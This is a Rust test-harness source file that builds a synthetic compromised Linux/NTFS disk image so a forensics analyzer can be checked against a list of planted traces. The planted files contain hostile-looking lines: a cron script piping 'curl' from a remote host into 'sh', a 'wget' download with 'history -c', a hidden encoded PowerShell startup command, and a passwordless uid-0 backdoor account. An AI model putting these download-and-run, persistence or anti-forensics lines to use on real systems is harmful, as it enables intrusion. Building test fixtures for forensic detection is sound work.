//! The generated suspect VM of the demo and of the analysis tests: a 128 MiB GPT disk with
//! a Linux root (ext4) and a Windows volume (NTFS), each with planted activity an examiner
//! should find, at known times.
//!
//! Everything is made by the real tools (mkfs.ext4 -d, debugfs, utmpdump, mkntfs, ntfs-3g,
//! hivexregedit, sgdisk), and [`PLANTED`] lists what `vestige analyze` must report for
//! it: the test and the demo check the same list. Local times are Europe/Berlin (the
//! suspect's zone, CET in November: UTC+1), so the expected UTC times also prove the
//! time-zone conversion.
//!
//! Making the NTFS volume mounts it with ntfs-3g (FUSE): root and /dev/fuse are needed.

use crate::command::run;
use crate::HarnessError;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Disk size and its partitions, in MiB.
pub const SUSPECT_MIB: u64 = 128;
/// Partition 1, the Linux root (ext4), starting at 1 MiB.
pub const LINUX_MIB: u64 = 80;
/// Partition 2, the Windows volume (NTFS), right after it.
pub const NTFS_MIB: u64 = 40;

/// One planted trace and how the analysis must show it.
#[derive(Debug, Clone, Copy)]
pub struct Planted {
    /// What was planted.
    pub what: &'static str,
    /// `finding:<rule>` or `event:<source>/<kind>`.
    pub expect: &'static str,
    /// Text the finding's title/description or the event's description must contain.
    pub text: &'static str,
    /// The volume (`002` Linux, `003` NTFS as `vestige volumes` numbers GPT rows) and
    /// the path the evidence must name.
    pub volume: &'static str,
    /// The path the evidence must name ("": none, as for the ext4 journal, inode 8).
    pub path: &'static str,
    /// The UTC time it must carry (RFC 3339), when it has one.
    pub time: Option<&'static str>,
}

/// Everything planted, as the analysis must report it.
pub const PLANTED: &[Planted] = &[
    Planted {
        what: "a second uid-0 account",
        expect: "finding:linux.uid0_account",
        text: "backup2",
        volume: "004",
        path: "/etc/passwd",
        time: None,
    },
    Planted {
        what: "the same account without a password",
        expect: "finding:linux.empty_password",
        text: "backup2",
        volume: "004",
        path: "/etc/shadow",
        time: None,
    },
    Planted {
        what: "a cron job running a script from a hidden directory in /tmp",
        expect: "finding:linux.cron_persistence",
        text: "/tmp/.x/update.sh",
        volume: "004",
        path: "/etc/cron.d/update",
        time: None,
    },
    Planted {
        what: "a systemd unit no package owns, enabled, running from /var/tmp",
        expect: "finding:linux.systemd_persistence",
        text: "dbus-update.service",
        volume: "004",
        path: "/etc/systemd/system/dbus-update.service",
        time: None,
    },
    Planted {
        what: "the attacker's SSH key in alice's authorized_keys",
        expect: "finding:linux.ssh_authorized_key",
        text: "mallory@attacker",
        volume: "004",
        path: "/home/alice/.ssh/authorized_keys",
        time: None,
    },
    Planted {
        what: "40 failed root logins then a success from one address (03:17:44 CET)",
        expect: "finding:auth.bruteforce_then_success",
        text: "198.51.100.23",
        volume: "004",
        path: "/var/log/auth.log",
        time: Some("2026-11-20T02:17:44Z"),
    },
    Planted {
        what: "the backdoor account's creation logged by useradd (03:20:01 CET)",
        expect: "event:auth.log/user_added",
        text: "backup2",
        volume: "004",
        path: "/var/log/auth.log",
        time: Some("2026-11-20T02:20:01Z"),
    },
    Planted {
        what: "the attacker's session in wtmp",
        expect: "event:wtmp/login",
        text: "198.51.100.23",
        volume: "004",
        path: "/var/log/wtmp",
        time: Some("2026-11-20T02:17:45Z"),
    },
    Planted {
        what: "netcat installed (dpkg.log, 03:25:10 CET)",
        expect: "event:dpkg.log/package_installed",
        text: "netcat-openbsd",
        volume: "004",
        path: "/var/log/dpkg.log",
        time: Some("2026-11-20T02:25:10Z"),
    },
    Planted {
        what: "root's history: download, chmod, history -c",
        expect: "finding:linux.suspicious_history",
        text: "history -c",
        volume: "004",
        path: "/root/.bash_history",
        time: None,
    },
    Planted {
        what: "an ELF binary dropped in /tmp/.x",
        expect: "finding:binary.suspicious_location",
        text: "/tmp/.x/kworkerd",
        volume: "004",
        path: "/tmp/.x/kworkerd",
        time: None,
    },
    Planted {
        what: "the exfiltration archive, deleted with debugfs",
        expect: "event:filesystem/file_times",
        text: "/root/exfil.tar.txt (deleted)",
        volume: "004",
        path: "/root/exfil.tar.txt",
        time: Some("2026-11-20T02:31:00Z"),
    },
    Planted {
        what: "the archive's inode before its deletion, in the ext4 journal",
        expect: "event:ext4_journal/deleted_inode_in_journal",
        text: "63000 bytes, owner 0:0, mode 644; modified 2026-11-20T02:31:00Z",
        volume: "004",
        path: "",
        time: None,
    },
    Planted {
        what: "the deletion's transaction, committed to the ext4 journal",
        expect: "event:ext4_journal/journal_commit",
        text: "transaction 2 committed",
        volume: "004",
        path: "",
        time: Some("2026-11-20T02:33:00Z"),
    },
    Planted {
        what: "a Run key starting a program from C:\\Users\\Public",
        expect: "finding:windows.run_key_persistence",
        text: "Updater",
        volume: "005",
        path: "/Windows/System32/config/SOFTWARE",
        time: None,
    },
    Planted {
        what: "a service whose ImagePath is in C:\\Users\\Public",
        expect: "finding:windows.service_installed",
        text: "WinDefendUpd",
        volume: "005",
        path: "/Windows/System32/config/SYSTEM",
        time: None,
    },
    Planted {
        what: "a user created and added to a group (Security.evtx, a log Windows wrote)",
        expect: "event:evtx/user_added",
        text: "",
        volume: "005",
        path: "/Windows/System32/winevt/Logs/Security.evtx",
        time: None,
    },
    Planted {
        what: "a script in the all-users Startup folder",
        expect: "finding:windows.startup_folder",
        text: "update.bat",
        volume: "005",
        path: "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/update.bat",
        time: None,
    },
    Planted {
        what: "the ransom note's creation in the NTFS change journal",
        expect: "event:usnjrnl/usn_change",
        text: "/README-DECRYPT.txt: FILE_CREATE|CLOSE",
        volume: "005",
        path: "/$Extend/$UsnJrnl:$J",
        time: Some("2026-11-20T02:40:00Z"),
    },
    Planted {
        what: "a document renamed to .locked, in the change journal",
        expect: "event:usnjrnl/usn_change",
        text: "/Users/alice/report.docx.locked: RENAME_NEW_NAME",
        volume: "005",
        path: "/$Extend/$UsnJrnl:$J",
        time: Some("2026-11-20T02:39:00Z"),
    },
    Planted {
        what: "the ransom note (03:40 CET)",
        expect: "event:filesystem/file_times",
        text: "/README-DECRYPT.txt",
        volume: "005",
        path: "/README-DECRYPT.txt",
        time: Some("2026-11-20T02:40:00Z"),
    },
];

/// The planting script: `sh -c SCRIPT sh WORKDIR DATADIR PE`, where DATADIR is
/// tools/analyze/tests/data (hivex's minimal hive, real EVTX) and PE a Windows binary or
/// empty. Writes WORKDIR/suspect-vm.raw.
const SCRIPT: &str = r#"
set -eu
W=$1; DATA=$2; PE=$3
export TZ=UTC
R=$W/suspect-root; N=$W/ntfs.part; M=$W/ntfs-mnt; D=$W/suspect-vm.raw
rm -rf "$R" "$N" "$M" "$D"; mkdir -p "$R" "$M"
cd "$R"
mkdir -p etc/cron.d etc/systemd/system/multi-user.target.wants tmp/.x home/alice/.ssh root \
  var/log var/tmp/.b var/lib/dpkg/info usr/share/zoneinfo/Europe
echo web-01 > etc/hostname
printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n' > etc/os-release
echo Europe/Berlin > etc/timezone
cp /usr/share/zoneinfo/Europe/Berlin usr/share/zoneinfo/Europe/Berlin
ln -s /usr/share/zoneinfo/Europe/Berlin etc/localtime
cat > etc/passwd <<'E'
root:x:0:0:root:/root:/bin/bash
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
backup2:x:0:0::/var/tmp/.b:/bin/bash
E
cat > etc/shadow <<'E'
root:!:20400:0:99999:7:::
www-data:*:20400:0:99999:7:::
alice:!:20400:0:99999:7:::
backup2::20412:0:99999:7:::
E
printf 'root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n' > etc/group
echo '*/5 * * * * root /tmp/.x/update.sh >/dev/null 2>&1' > etc/cron.d/update
printf '#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n' > tmp/.x/update.sh
chmod +x tmp/.x/update.sh
cp /usr/bin/true tmp/.x/kworkerd
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoOnlyNotARealKeyDemoOnlyNotARealKey1 mallory@attacker' > home/alice/.ssh/authorized_keys
printf 'wget http://203.0.113.7/kworkerd -O /tmp/.x/kworkerd\nchmod +x /tmp/.x/kworkerd\nhistory -c\n' > root/.bash_history
printf '[Unit]\nDescription=D-Bus update helper\n[Service]\nExecStart=/var/tmp/.b/agent\n[Install]\nWantedBy=multi-user.target\n' > etc/systemd/system/dbus-update.service
ln -s /etc/systemd/system/dbus-update.service etc/systemd/system/multi-user.target.wants/dbus-update.service
printf 'Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2+deb12u3\n\n' > var/lib/dpkg/status
printf '/etc/ssh/sshd_config\n' > var/lib/dpkg/info/openssh-server.list
echo '2026-11-20 03:25:10 install netcat-openbsd:amd64 <none> 1.219-1' > var/log/dpkg.log
: > var/log/auth.log
i=0
while [ $i -lt 40 ]; do
  printf 'Nov 20 03:%02d:%02d web-01 sshd[%d]: Failed password for root from 198.51.100.23 port %d ssh2\n' \
    $((i / 6 + 10)) $(((i * 7) % 60)) $((4000 + i)) $((50000 + i)) >> var/log/auth.log
  i=$((i + 1))
done
cat >> var/log/auth.log <<'E'
Nov 20 03:17:44 web-01 sshd[4100]: Accepted password for root from 198.51.100.23 port 50999 ssh2
Nov 20 03:20:01 web-01 useradd[4200]: new user: name=backup2, UID=0, GID=0, home=/var/tmp/.b, shell=/bin/bash, from=/dev/pts/0
E
printf '[7] [04100] [ts/0] [root    ] [pts/0       ] [198.51.100.23       ] [198.51.100.23  ] [2026-11-20T02:17:45,000000+00:00]\n' > "$W/wtmp.txt"
utmpdump -r < "$W/wtmp.txt" > var/log/wtmp 2>/dev/null
yes 'customer,card,expiry' | head -n 3000 > root/exfil.tar.txt
touch -d '2026-11-20T02:31:00Z' root/exfil.tar.txt
touch -d '2026-11-20T04:00:00Z' var/log/auth.log var/log/dpkg.log var/log/wtmp
touch -d '2026-11-20T02:22:00Z' etc/passwd etc/shadow
touch -d '2026-11-20T02:30:00Z' etc/cron.d/update tmp/.x/update.sh tmp/.x/kworkerd
touch -d '2026-11-20T02:21:00Z' home/alice/.ssh/authorized_keys
cd "$W"
truncate -s 128M "$D"
mkfs.ext4 -q -F -L root -U 5e1f0000-0000-4000-8000-00000000d1d0 -E offset=1048576,root_owner=0:0 -d "$R" "$D" 80M
# The archive deleted as a journaling kernel leaves it: the blocks the deletion changed,
# before and after, go into the journal as two committed transactions (their commit
# times set the kernel's way: 02:31:05Z and 02:33:00Z), which are then replayed, so the
# log is clean and still holds both (debugfs itself journals nothing).
dd if="$D" of="$W/ext4.before" bs=1M skip=1 count=80 status=none
debugfs -w -R 'rm /root/exfil.tar.txt' "$D?offset=1048576" 2>/dev/null
dd if="$D" of="$W/ext4.after" bs=1M skip=1 count=80 status=none
python3 - "$W" "$D" <<'P'
import struct, subprocess, sys
w, disk = sys.argv[1], sys.argv[2]
fs = disk + "?offset=1048576"
a = open(w + "/ext4.before", "rb").read()
b = open(w + "/ext4.after", "rb").read()
bs = 1024 << int.from_bytes(a[1024 + 0x18:1024 + 0x1C], "little")
ch = [i for i in range(len(a) // bs) if a[i * bs:(i + 1) * bs] != b[i * bs:(i + 1) * bs]]
open(w + "/tx1", "wb").write(b"".join(a[i * bs:(i + 1) * bs] for i in ch))
open(w + "/tx2", "wb").write(b"".join(b[i * bs:(i + 1) * bs] for i in ch))
l = ",".join(map(str, ch))
cmds = "jo\njw -b %s %s/tx1\njw -b %s %s/tx2\njc\n" % (l, w, l, w)
subprocess.run(["debugfs", "-w", "-f", "-", fs], input=cmds.encode(), check=True,
               capture_output=True)
subprocess.run(["debugfs", "-R", "dump <8> %s/journal" % w, fs], check=True, capture_output=True)
j = open(w + "/journal", "rb").read()
times = {1: 1795141865, 2: 1795141980}  # 2026-11-20T02:31:05Z, 02:33:00Z
with open(disk, "r+b") as d:
    for n in range(len(j) // bs):
        blk = j[n * bs:(n + 1) * bs]
        magic, kind, seq = struct.unpack(">III", blk[:12])
        if magic == 0xC03B3998 and kind == 2 and seq in times:
            out = subprocess.run(["debugfs", "-R", "bmap <8> %d" % n, fs], check=True,
                                 capture_output=True).stdout
            d.seek(1048576 + int(out.split()[0]) * bs + 0x30)
            d.write(struct.pack(">QI", times[seq], 0))
subprocess.run(["debugfs", "-w", "-R", "jr", fs], check=True, capture_output=True)
P

truncate -s 40M "$N"
mkntfs -F -Q -q -L Windows -p $(( (1 + 80) * 2048 )) "$N" >/dev/null 2>&1
ntfs-3g -o streams_interface=windows "$N" "$M"
trap 'umount "$M" 2>/dev/null || true' EXIT
mkdir -p "$M/Windows/System32/config" "$M/Windows/System32/winevt/Logs" "$M/Users/Public" \
  "$M/Users/alice" "$M/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
hive() {  # hive NAME REGTEXT: a hive made by hivexregedit into hivex's minimal hive
  cp "$DATA/regf/minimal" "$W/$1"
  printf 'Windows Registry Editor Version 5.00\n\n%s\n' "$2" > "$W/$1.reg"
  hivexregedit --merge --prefix 'HKEY_LOCAL_MACHINE\X' "$W/$1" "$W/$1.reg"
  cp "$W/$1" "$M/Windows/System32/config/$1"
}
hive SYSTEM '[HKEY_LOCAL_MACHINE\X\Select]
"Current"=dword:00000001

[HKEY_LOCAL_MACHINE\X\ControlSet001]

[HKEY_LOCAL_MACHINE\X\ControlSet001\Control]

[HKEY_LOCAL_MACHINE\X\ControlSet001\Control\ComputerName]

[HKEY_LOCAL_MACHINE\X\ControlSet001\Control\ComputerName\ComputerName]
"ComputerName"="WIN-DESK01"

[HKEY_LOCAL_MACHINE\X\ControlSet001\Control\TimeZoneInformation]
"TimeZoneKeyName"="W. Europe Standard Time"
"Bias"=dword:ffffffc4

[HKEY_LOCAL_MACHINE\X\ControlSet001\Services]

[HKEY_LOCAL_MACHINE\X\ControlSet001\Services\WinDefendUpd]
"ImagePath"="C:\\Users\\Public\\svchost.exe"
"Start"=dword:00000002
"Type"=dword:00000010
"DisplayName"="Windows Defender Update"
'
hive SOFTWARE '[HKEY_LOCAL_MACHINE\X\Microsoft]

[HKEY_LOCAL_MACHINE\X\Microsoft\Windows NT]

[HKEY_LOCAL_MACHINE\X\Microsoft\Windows NT\CurrentVersion]
"ProductName"="Windows 10 Pro"
"CurrentBuild"="19045"
"RegisteredOwner"="alice"

[HKEY_LOCAL_MACHINE\X\Microsoft\Windows]

[HKEY_LOCAL_MACHINE\X\Microsoft\Windows\CurrentVersion]

[HKEY_LOCAL_MACHINE\X\Microsoft\Windows\CurrentVersion\Run]
"Updater"="C:\\Users\\Public\\svchost.exe -k update"
'
cp "$DATA/evtx/new-user-security.evtx" "$M/Windows/System32/winevt/Logs/Security.evtx"
printf '@echo off\r\npowershell -w hidden -enc SQBFAFgA\r\n' > "$M/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/update.bat"
if [ -n "$PE" ] && [ -f "$PE" ]; then cp "$PE" "$M/Users/Public/svchost.exe"; fi
printf 'Your files are encrypted. Contact decrypt@example.invalid\n' > "$M/README-DECRYPT.txt"
touch -d '2026-11-20T02:40:00Z' "$M/README-DECRYPT.txt"
# A change journal ($Extend/$UsnJrnl:$J, USN_RECORD_V2 as Windows writes them, after a
# 1 MiB sparse head): the note created, a document renamed to .locked, a log deleted.
# ntfs-3g keeps no journal and refuses to create files in $Extend, but moves one in.
python3 - "$M" <<'PY'
import os, struct, sys
m = sys.argv[1]
def ft(secs): return (secs + 11644473600) * 10**7
def ref(entry, seq): return entry | (seq << 48)
def rec(usn, fref, pref, t, reason, name):
    n = name.encode("utf-16-le")
    size = (60 + len(n) + 7) // 8 * 8
    b = struct.pack("<IHHQQqqIIIIHH", size, 2, 0, fref, pref, usn, ft(t), reason, 0, 0, 0x20, len(n), 60) + n
    return b + b"\0" * (size - len(b))
note = os.stat(os.path.join(m, "README-DECRYPT.txt")).st_ino
alice = os.stat(os.path.join(m, "Users/alice")).st_ino
T = 1795132800  # 2026-11-20T00:00:00Z
recs = [
    (ref(0x51, 3), ref(alice, 1), T + 9540, 0x00001000, "report.docx"),        # RENAME_OLD_NAME
    (ref(0x51, 3), ref(alice, 1), T + 9540, 0x00002000, "report.docx.locked"), # RENAME_NEW_NAME
    (ref(0x52, 2), ref(alice, 1), T + 9570, 0x80000200, "backup.log"),         # FILE_DELETE|CLOSE
    (ref(note, 1), ref(5, 5), T + 9600, 0x80000100, "README-DECRYPT.txt"),     # FILE_CREATE|CLOSE
]
data, usn = b"", 1 << 20
for fr, pr, t, reason, name in recs:
    r = rec(usn + len(data), fr, pr, t, reason, name)
    data += r
with open(os.path.join(m, "UsnJrnlX:$J"), "wb") as f:
    f.seek(1 << 20)
    f.write(data)
PY
mv "$M/UsnJrnlX" "$M/\$Extend/\$UsnJrnl"
umount "$M"
trap - EXIT
dd if="$N" of="$D" bs=1M conv=notrunc,fsync status=none seek=81
sgdisk -o -n 1:2048:+80M -t 1:8300 -c 1:linux-root -n 2:$(( (1 + 80) * 2048 )):+40M -t 2:0700 -c 2:windows-data "$D" >/dev/null
rm -rf "$R" "$N" "$M" "$W"/SYSTEM* "$W"/SOFTWARE* "$W/wtmp.txt"
"#;

/// Host tools the suspect needs (program, Debian package).
pub const TOOLS: &[(&str, &str)] = &[
    ("mkfs.ext4", "e2fsprogs"),
    ("debugfs", "e2fsprogs"),
    ("utmpdump", "util-linux"),
    ("mkntfs", "ntfs-3g"),
    ("ntfs-3g", "ntfs-3g"),
    ("hivexregedit", "libwin-hivex-perl"),
    ("sgdisk", "gdisk"),
    ("python3", "python3"),
];

/// Makes `dir/suspect-vm.raw` (see the module doc). `repo` is the workspace root (for
/// tools/analyze/tests/data); `pe` a Windows program to plant as
/// `C:\Users\Public\svchost.exe`, if there is one.
///
/// # Errors
/// A tool is missing or fails (root and /dev/fuse are needed for ntfs-3g).
pub fn make_suspect(dir: &Path, repo: &Path, pe: Option<&Path>) -> Result<PathBuf, HarnessError> {
    std::fs::create_dir_all(dir).map_err(|source| HarnessError::Io {
        what: "creating",
        path: dir.to_path_buf(),
        source,
    })?;
    run(Command::new("sh")
        .arg("-c")
        .arg(SCRIPT)
        .arg("sh")
        .arg(dir)
        .arg(repo.join("tools/analyze/tests/data"))
        .arg(pe.map(Path::as_os_str).unwrap_or_default()))?;
    Ok(dir.join("suspect-vm.raw"))
}
